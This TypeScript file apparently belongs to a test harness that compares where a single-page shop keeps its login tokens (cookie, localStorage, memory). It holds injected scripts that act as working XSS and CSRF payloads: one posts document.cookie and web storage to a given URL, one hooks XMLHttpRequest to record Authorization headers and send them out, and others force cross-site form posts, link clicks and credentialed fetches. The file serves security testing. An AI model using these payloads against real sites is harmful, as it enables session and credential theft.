/** The page of a shop that calls its server, and the scripts that are injected into it. Sources for the browser: plain JavaScript. */
import { isTokenPlace, type Place } from '../../../vocabulary/browser.ts';

/**
 * `app.login` and `app.call` as a single-page application has them, with XMLHttpRequest and its `withCredentials`. A token is kept where
 * `place` says and sent as Bearer; with a cookie the page keeps nothing.
 */
const app = (place: Place) => `
const app = (() => {
  const place = ${JSON.stringify(isTokenPlace(place) ? place : 'cookie')};
  const memory = new Map();
  const nameOf = (origin) => 'token ' + origin;
  const tokenFor = (url) => {
    const { origin } = new URL(url, location.href);
    return place === 'local-storage' ? localStorage.getItem(nameOf(origin)) : memory.get(origin);
  };
  const send = (url, { method = 'GET', headers = {}, body, withCredentials = false } = {}) =>
    new Promise((done) => {
      const request = new XMLHttpRequest();
      request.open(method, url);
      request.withCredentials = withCredentials;
      for (const [name, value] of Object.entries(headers)) request.setRequestHeader(name, value);
      request.onloadend = () => done({ status: request.status, text: request.responseText });
      request.send(body);
    });
  return {
    async login(url, options) {
      const { status, text } = await send(url, options);
      if (status === 200 && place !== 'cookie') {
        const { origin } = new URL(url, location.href);
        const { accessToken } = JSON.parse(text);
        if (place === 'local-storage') localStorage.setItem(nameOf(origin), accessToken);
        else memory.set(origin, accessToken);
      }
      return status;
    },
    call(url, options = {}) {
      const token = place === 'cookie' ? undefined : tokenFor(url);
      const headers = { ...options.headers, ...(token && { authorization: 'Bearer ' + token }) };
      return send(url, { ...options, headers });
    },
    copyToLocalStorage() {
      for (const [origin, token] of memory) localStorage.setItem(nameOf(origin), token);
    },
  };
})();`;

export const pageOf = (place: Place): string =>
  `<!doctype html><meta charset=utf-8><link rel=icon href="data:,"><title>shop</title><script>${app(place)}</script><p>shop`;

const loot = (url: string, text: string) =>
  `fetch(${JSON.stringify(url)}, { method: 'POST', mode: 'no-cors', body: ${text} });`;

/** Injected: everything that a script finds where credentials are kept, sent to `url`. */
export const lookAround = (url: string): string =>
  loot(url, `[document.cookie, ...Object.values(localStorage), ...Object.values(sessionStorage)].join('\\n')`);

/** Injected: writes down what the page puts into the headers of its requests from now on. */
export const listenIn = `
var heard = [];
var setRequestHeader = self.setRequestHeader ?? XMLHttpRequest.prototype.setRequestHeader;
XMLHttpRequest.prototype.setRequestHeader = function (name, value) {
  heard.push(name + ': ' + value);
  return setRequestHeader.call(this, name, value);
};`;

/** Injected: what was heard, sent to `url`. */
export const sendHeard = (url: string): string => loot(url, `heard.join('\\n')`);

/** Injected: asks who the user is, by the page's own means, and sends the answer to `url`. */
export const act = (read: string, url: string): string =>
  `app.call(${JSON.stringify(read)}).then(({ text }) => { ${loot(url, 'text')} });`;

/** On any page: a form that posts to `url`, sent. */
export const submitForm = (url: string): string => `
{
  const form = Object.assign(document.createElement('form'), { method: 'post', action: ${JSON.stringify(url)}, enctype: 'text/plain' });
  document.body.append(form);
  setTimeout(() => form.submit());
}`;

/** On any page: a link to `url`, followed. */
export const followLink = (url: string): string => `
{
  const link = Object.assign(document.createElement('a'), { href: ${JSON.stringify(url)}, textContent: 'a bargain' });
  document.body.append(link);
  setTimeout(() => link.click());
}`;

/** On any page: a GET by fetch. What a page may not read is sent all the same. */
export const fetchIt = (url: string, credentials: 'include' | 'same-origin'): string =>
  `fetch(${JSON.stringify(url)}, { credentials: '${credentials}' }).then(() => true, () => false)`;
